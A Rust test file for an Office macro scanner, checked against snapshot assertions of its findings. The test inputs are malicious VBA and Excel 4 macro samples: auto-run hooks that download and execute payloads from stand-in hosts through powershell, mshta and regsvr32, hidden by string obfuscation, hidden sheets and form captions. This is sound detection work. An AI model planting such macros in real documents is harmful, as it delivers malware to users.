//! The evaluator and its findings: source in, findings and indicators out.

use proptest::prelude::*;

use super::{
    forms::{Control, Form},
    project::{Module, Project},
    *,
};
use crate::{Budget, Hints, Kind, Relation, bus, scan::About};

/// Modules of sources, parted by lines of dashes.
fn project(source: &str) -> Project {
    let modules = source.split("\n----\n").enumerate().map(|(index, source)| Module {
        name: if index == 0 { "ThisDocument".to_owned() } else { format!("Module{index}") },
        source: source.to_owned(),
        ..Module::default()
    });
    Project { modules: modules.collect(), ..Project::default() }
}

fn with(project: &Project, strings: &[(&str, &str)], look: impl FnOnce(&mut Scan<'_>)) {
    let strings: Vec<(String, String)> =
        strings.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
    let hints = Hints::default();
    let mut budget = Budget::new(1 << 20);
    let about = About {
        name: "a.docm".to_owned(),
        kind: Kind::Docx,
        declared: None,
        relation: Relation::Input,
        depth: 0,
    };
    let mut scan = Scan::new(about, &hints, &mut budget);
    analyse(project, &strings, &mut scan);
    bus::run(&mut scan);
    look(&mut scan);
}

fn listed(project: &Project, strings: &[(&str, &str)]) -> String {
    let mut out = Vec::new();
    with(project, strings, |scan| {
        for finding in &scan.findings {
            let name = finding.id.name();
            if !name.starts_with("IOC") && name != "VBA-PRESENT" {
                let line = finding.location.as_str().rsplit("line ").next().unwrap_or("");
                out.push(format!("{:?} {name} {line}: {}", finding.severity, finding.evidence));
            }
        }
        let urls = scan.indicators.iter().filter(|i| i.kind == crate::IndicatorKind::Url);
        out.extend(urls.map(|i| i.value.clone()));
    });
    out.join("\n")
}

fn check(source: &str) -> String {
    listed(&project(source), &[])
}

#[test]
fn a_shell_that_loads() {
    let source = r#"Sub AutoOpen()
    Dim sh
    Set sh = CreateObject("WScript.Shell")
    sh.Run "powershell -w hidden -c ""(New-Object Net.WebClient).DownloadFile('http://alpha.example/4.dat','C:\Users\Public\a.exe')""", 0, False
End Sub"#;
    insta::assert_snapshot!(check(source), @r#"
    Low VBA-AUTOEXEC 1: AutoOpen
    High VBA-DOWNLOAD 4: powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://alpha.example/4.dat','C:\Users\Public\a.exe')"
    High VBA-POWERSHELL 4: powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://alpha.example/4.dat','C:\Users\Public\a.exe')"
    Critical VBA-EXEC 4: WScript.Shell.Run: powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://alpha.example/4.dat','C:\Users\Public\a.exe')"
    http://alpha.example/4.dat
    "#);
}

#[test]
fn strings_in_disguise() {
    let source = r#"Private Const K = 23
Function Dx(s)
  Dim a, i, r
  a = Split(s, ",")
  For i = 0 To UBound(a)
    r = r & Chr(a(i) Xor K)
  Next i
  Dx = r
End Function
Function Hx(s)
  Dim i, r
  For i = 1 To Len(s) Step 2
    r = r & Chr(Val("&H" & Mid(s, i, 2)))
  Next
  Hx = r
End Function
Sub Document_Open()
  Dim u(5) As String
  u(0) = ChrW(&H68) & Chr(116) & ChrW(&H74) & Chr(112) & ChrW(&H3A) & Chr(47) & ChrW(&H2F) & Chr(97) & ".example/a"
  u(1) = StrReverse("tad.6/elpmaxe.ateb//:ptth")
  u(2) = Hx("687474703a2f2f67616d6d612e6578616d706c652f34")
  u(3) = B64("aHR0cDovL2RlbHRhLmV4YW1wbGUvcC5iaW4=")
  u(4) = Dx("127,99,99,103,45,56,56,114,103,100,57,114,111,118,122,103,123,114,56,102")
  u(5) = Replace("hQQtQQtQQpQQ:QQ/QQ/zeta.example/r.bin", "QQ", "")
  Set o = CreateObject(StrReverse("llehS.tpircSW"))
  o.Run Join(Array("cm", "d /c st", "art ", u(0)), "")
End Sub"#;
    insta::assert_snapshot!(check(source), @r"
    Low VBA-AUTOEXEC 17: Document_Open
    High VBA-OBF-CHR 15: http://gamma.example/4
    High VBA-OBF-HEX 15: http://gamma.example/4
    High VBA-OBF-CHR 8: http://eps.example/q
    High VBA-OBF-XOR 8: http://eps.example/q
    High VBA-OBF-SPLIT 8: http://eps.example/q
    High VBA-OBF-REVERSE 25: WScript.Shell
    High VBA-OBF-CHR 26: cmd /c start http://a.example/a
    High VBA-OBF-SPLIT 26: cmd /c start http://a.example/a
    High VBA-OBF-REVERSE 26: http://beta.example/6.dat
    High VBA-OBF-REPLACE 26: http://zeta.example/r.bin
    High VBA-OBF-BASE64 22: http://delta.example/p.bin
    High VBA-LOLBIN 26: cmd /c start http://a.example/a
    Critical VBA-EXEC 26: WScript.Shell.Run: cmd /c start http://a.example/a
    http://gamma.example/4
    http://eps.example/q
    http://a.example/a
    http://beta.example/6.dat
    http://zeta.example/r.bin
    http://delta.example/p.bin
    ");
}

#[test]
fn payloads_kept_elsewhere() {
    let source = r#"Sub AutoOpen()
  c = ActiveDocument.BuiltInDocumentProperties("Comments")
  CreateObject("WScript.Shell").Run c, 0
End Sub"#;
    let project = project(source);
    insta::assert_snapshot!(listed(&project, &[("Comments", "mshta http://beta.example/c.hta")]), @r"
    Low VBA-AUTOEXEC 1: AutoOpen
    High VBA-LOLBIN 3: mshta http://beta.example/c.hta
    Critical VBA-EXEC 3: WScript.Shell.Run: mshta http://beta.example/c.hta
    High VBA-HIDDEN-PAYLOAD 2: Comments: mshta http://beta.example/c.hta
    http://beta.example/c.hta
    ");
}

#[test]
fn forms_and_macro_sheets() {
    let source = r#"Sub auto_open()
On Error Resume Next
Dz = "="
Application.ScreenUpdating = False
Gert
Sheets("Sheet5").Visible = False
Sheets("Sheet5").Range("A1:M100").Font.Color = vbWhite
Sheets("Sheet5").Range("H24") = UserForm1.Label1.Caption
Sheets("Sheet5").Range("I9") = UserForm1.Label2.Caption
Sheets("Sheet5").Range("I17") = "regsvr32 -silent C:\Datop\besta.ocx"
Sheets("Sheet5").Range("H9") = Dz & "REGISTER(I9,I10&J10,I11,I12,,1,9)"
Sheets("Sheet5").Range("H17") = Dz & "EXEC" & "(I17)"
Application.Run Sheets("Sheet5").Range("H1")
End Sub
Function Gert()
Set Fe = Excel4IntlMacroSheets
Fe.Add.Name = "Sheet5"
End Function"#;
    let mut project = project(source);
    let label = |name: &str, caption: &str| Control {
        name: name.to_owned(),
        kind: "Label",
        caption: caption.to_owned(),
        ..Control::default()
    };
    project.forms.push(Form {
        name: "UserForm1".to_owned(),
        caption: "x".to_owned(),
        controls: vec![label("Label1", "http://alpha.example/"), label("Label2", "uRlMon")],
    });
    insta::assert_snapshot!(listed(&project, &[]), @r#"
    Low VBA-AUTOEXEC 1: auto_open
    High VBA-LOLBIN 10: regsvr32 -silent C:\Datop\besta.ocx
    High VBA-FORM-STRINGS 8: UserForm1.Label1.Caption: http://alpha.example/
    High VBA-FORM-STRINGS 9: UserForm1.Label2.Caption: uRlMon
    Low XLM-SHEET sheet "Sheet5" (hidden): Sheet5: 2 formulas from H9 on
    Low XLM-SHEET-HIDDEN sheet "Sheet5" (hidden): Sheet5: 2 formulas from H9 on
    High XLM-REGISTER sheet "Sheet5" (hidden) > H9: uRlMon
    Critical XLM-EXEC sheet "Sheet5" (hidden) > H17: regsvr32 -silent C:\Datop\besta.ocx
    Critical XLM-LOLBIN sheet "Sheet5" (hidden) > H17: regsvr32: regsvr32 -silent C:\Datop\besta.ocx
    Critical VBA-BUILDS-XLM 17: Excel4MacroSheets.Add, 5 cells written
    Critical VBA-RUNS-XLM 13: Application.Run: Sheet5!H1
    Info FAM-QBOT-VBA-XLM : a macro sheet is added and filled from captions of a form
    http://alpha.example/
    "#);
}

#[test]
fn wmi_and_events() {
    let wmi = r#"Sub AutoOpen()
  Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2:Win32_Process")
  w.Create "mshta http://alpha.example/a.hta", Null, Null, p
End Sub"#;
    insta::assert_snapshot!(check(wmi), @r"
    Low VBA-AUTOEXEC 1: AutoOpen
    High VBA-LOLBIN 3: mshta http://alpha.example/a.hta
    Critical VBA-EXEC 3: Win32_Process.Create: mshta http://alpha.example/a.hta
    High VBA-WMI 3: Win32_Process.Create: mshta http://alpha.example/a.hta
    http://alpha.example/a.hta
    ");
    let event =
        "Private Sub InkPicture1_Painted(ByVal hDC As Long)\n  Shell \"cmd /c echo inert\", 0\nEnd Sub";
    insta::assert_snapshot!(check(event), @r"
    Low VBA-AUTOEXEC 1: InkPicture1_Painted
    High VBA-LOLBIN 2: cmd /c echo inert
    Critical VBA-EXEC 2: Shell: cmd /c echo inert
    ");
    let formula = r#"Sub Workbook_Open()
  x = ExecuteExcel4Macro("CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0,""http://alpha.example/4.dat"",""C:\Datop\besta.ocx"",0,0)")
  ExecuteExcel4Macro "EXEC(""regsvr32 -silent C:\Datop\besta.ocx"")"
End Sub"#;
    insta::assert_snapshot!(check(formula), @r#"
    Low VBA-AUTOEXEC 1: Workbook_Open
    High VBA-LOLBIN 3: EXEC("regsvr32 -silent C:\Datop\besta.ocx")
    High XLM-CALL-DLL macro: urlmon URLDownloadToFileA JJCCJJ 0 http://alpha.example/4.dat C:\Datop\besta.ocx 0 0
    Critical XLM-DOWNLOAD macro: urlmon URLDownloadToFileA JJCCJJ 0 http://alpha.example/4.dat C:\Datop\besta.ocx 0 0
    Critical XLM-EXEC macro: regsvr32 -silent C:\Datop\besta.ocx
    Critical XLM-LOLBIN macro: regsvr32: regsvr32 -silent C:\Datop\besta.ocx
    Info FAM-QBOT-XLM : types of the download, extension, regsvr32
    Critical VBA-RUNS-XLM 2: CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://alpha.example/4.dat","C:\Datop\besta.ocx",0,0)
    Critical VBA-RUNS-XLM 3: EXEC("regsvr32 -silent C:\Datop\besta.ocx")
    http://alpha.example/4.dat
    "#);
}

#[test]
fn requests_streams_and_files() {
    let source = r#"Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal u As String, ByVal f As String, ByVal b As Long, ByVal c As Long) As Long
Sub Workbook_Open()
  Dim t As String: t = Environ("TEMP") & "\upd.exe"
  If Fetch(0, "http://one.example/x", t, 0, 0) = 0 Then Shell t, vbHide
  With CreateObject("MSXML2.XMLHTTP")
    .Open "GET", "http://two.example/y", False
    .send
    Set s = CreateObject("ADODB.Stream")
    s.Write .responseBody
    s.SaveToFile "C:\Users\Public\y.dll", 2
  End With
  Open t & ".vbs" For Output As #1
  Print #1, "CreateObject(""x"")"
  Close #1
  Application.OnTime Now, "Later"
End Sub
Sub Later()
  Dim d As New MSXML2.DOMDocument60
  Set n = d.createElement("b64")
  n.dataType = "bin.base64"
  n.Text = "bXNodGEgaHR0cDovL3Rocm" & "VlLmV4YW1wbGUv"
  Call CreateObject("Shell.Application").ShellExecute(StrConv(n.nodeTypedValue, vbUnicode))
End Sub"#;
    insta::assert_snapshot!(check(source), @r"
    Low VBA-AUTOEXEC 2: Workbook_Open
    High VBA-OBF-BASE64 22: mshta http://three.example/
    High VBA-OBF-BASE64 21: mshta http://thr
    Medium VBA-WRITE 10: C:\Users\Public\y.dll
    Medium VBA-WRITE 12: %TEMP%\upd.exe.vbs
    Medium VBA-WRITE 13: %TEMP%\upd.exe.vbs
    Medium VBA-WRITE 4: %TEMP%\upd.exe
    High VBA-DOWNLOAD 4: URLDownloadToFile: http://one.example/x to %TEMP%\upd.exe
    High VBA-DOWNLOAD 6: XMLHTTP: http://two.example/y
    High VBA-LOLBIN 22: mshta http://three.example/
    Critical VBA-EXEC 4: Shell: %TEMP%\upd.exe
    Critical VBA-EXEC 22: ShellExecute: mshta http://three.example/
    http://one.example/x
    http://two.example/y
    http://three.example/
    ");
}

#[test]
fn honest_macros_are_silent() {
    let source = r#"Option Explicit
Private Sub Workbook_Open()
    Sheets("Budget").Activate
    Application.StatusBar = "Welcome" & Chr(13) & Chr(10) & "to" & Chr(34) & "x" & Chr(34)
    Dim f As String, i As Integer, url As String
    f = ThisWorkbook.Path & "\export.csv"
    Open f For Output As #1
    For i = 1 To 10
        Print #1, Cells(i, 1) & ";" & Cells(i, 2)
    Next i
    Close #1
    url = Replace("https://intranet.example/report/%1", "%1", CStr(i))
    ThisWorkbook.FollowHyperlink "https://intranet.example/help"
    Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus
    Shell "notepad.exe C:\readme.txt"
    x = ExecuteExcel4Macro("'C:\data\[book.xls]Sheet1'!R1C1")
    Application.Run "Helper", Join(Array("a", "b"), ";")
    MsgBox Split("a,b,c", ",")(1) & StrReverse("cba")
    ActiveSheet.Range("A1").Formula = "=SUM(A2:A9)"
End Sub
Sub Helper(s)
    Dim re: Set re = CreateObject("VBScript.RegExp")
    Set dict = CreateObject("Scripting.Dictionary")
    dict.Add "a", 1
    If dict.Exists("a") Then MsgBox dict("a")
End Sub"#;
    insta::assert_snapshot!(check(source), @r"
    Low VBA-AUTOEXEC 2: Workbook_Open
    https://intranet.example/report/%1
    https://intranet.example/help
    https://intranet.example/report/11
    ");
    insta::assert_snapshot!(check("Sub InsertDate()\nSelection.TypeText Format(Date, \"dd.mm.yyyy\")\nEnd Sub"), @"");
}

#[test]
fn loops_and_jumps_end() {
    for source in [
        "Sub AutoOpen()\nDo\nLoop\nEnd Sub",
        "Sub AutoOpen()\nWhile True\nx = x & \"aaaaaaaaaaaaaaaa\"\nWend\nEnd Sub",
        "Sub AutoOpen()\na:\nGoTo a\nEnd Sub",
        "Sub AutoOpen()\nAutoOpen\nAutoOpen\nEnd Sub",
        "Sub AutoOpen()\nFor i = 1 To 1E300\nx = Space(60000) & Space(60000)\nNext\nEnd Sub",
        "Sub AutoOpen()\nDim a(9)\nFor i = 1 To 99999\na(0) = a\nNext\nEnd Sub",
        "Sub AutoOpen()\nx = \"a\"\nFor i = 1 To 99\nx = Replace(x, \"a\", x & x)\nNext\nEnd Sub",
    ] {
        let _ = check(source);
    }
    // As deep as it goes, on the stack of a test.
    let brackets = format!("Sub AutoOpen()\nx = {}1{}\nEnd Sub", "f(".repeat(500), ")".repeat(500));
    let brackets =
        format!("{brackets}\nFunction f(a)\n{}f = f(f(a) & f(a))\nEnd Function", "If a Then\n".repeat(40));
    let _ = check(&brackets);
    let blocks =
        format!("Sub AutoOpen()\n{}AutoOpen\nEnd Sub", "For i = 1 To 2\nWith a.b(c(1))\n".repeat(200));
    let _ = check(&blocks);
    let _ = check(&format!("Sub AutoOpen()\nx = {}1\nEnd Sub", "- Not ".repeat(5_000)));
    let _ = check(&format!("Sub AutoOpen()\nx = a{}\nEnd Sub", ".b(1)".repeat(5_000)));
    let _ = check(&format!("Sub AutoOpen()\nx = 1{}\nEnd Sub", " & 1 + 2".repeat(20_000)));
    let _ =
        check(&format!("Sub AutoOpen()\nSelect Case 1\n{}\nEnd Sub", "Case 1\nIf 1 Then\n".repeat(5_000)));
}

fn piece() -> impl Strategy<Value = String> {
    let words = "Sub AutoOpen()|End Sub|Function f(a, b)|If x Then|Else|End If|For i = 0 To 9|Next|Do|Loop While x|\
        x = x & Chr(65)|x = f(x, 1)|With CreateObject(\"a\")|End With|Select Case x|Case 1 To 2|End Select|(((|)))|\
        a(i) = a|ReDim a(99999999)|Mid(x, -1, 99)|Split(x, x)|\" & \"|_|'|&HFFFFFFFF|1E999|Sheets(\"x\").Range(\"A1\") = |\
        Application.Run x|-|Not|Xor|\\|Mod 0|^|.|!|[A1]|#1/1/2000#|#If x Then|GoTo q|q:|:|Shell x|Set x = |\
        String(99999, \"x\")|Replace(x, \"\", x)|x.y.z(1)(2)|é|\u{0}|Public Declare Function q Lib \"x\"|Const k = |\n|\n|\n"
        .split('|')
        .map(str::to_owned)
        .collect::<Vec<_>>();
    prop_oneof![
        6 => proptest::sample::select(words),
        1 => any::<String>(),
        1 => any::<i32>().prop_map(|n| n.to_string()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_read(pieces in prop::collection::vec(piece(), 0..60)) {
        let project = project(&pieces.join(" "));
        let mut program = Program::default();
        for (index, module) in project.modules.iter().enumerate() {
            parser::module(&module.source, index, &mut program);
        }
        let names = vec!["ThisDocument".to_owned()];
        let around = Surroundings::default();
        let mut book = Workbook::default();
        let all: Vec<usize> = (0..program.procs.len()).collect();
        let outcome = Machine::new(&program, &names, &around, &mut book, 5_000).run(&all, true);
        prop_assert!(outcome.steps <= 5_000);
        let _ = listed(&project, &[]);
    }
}
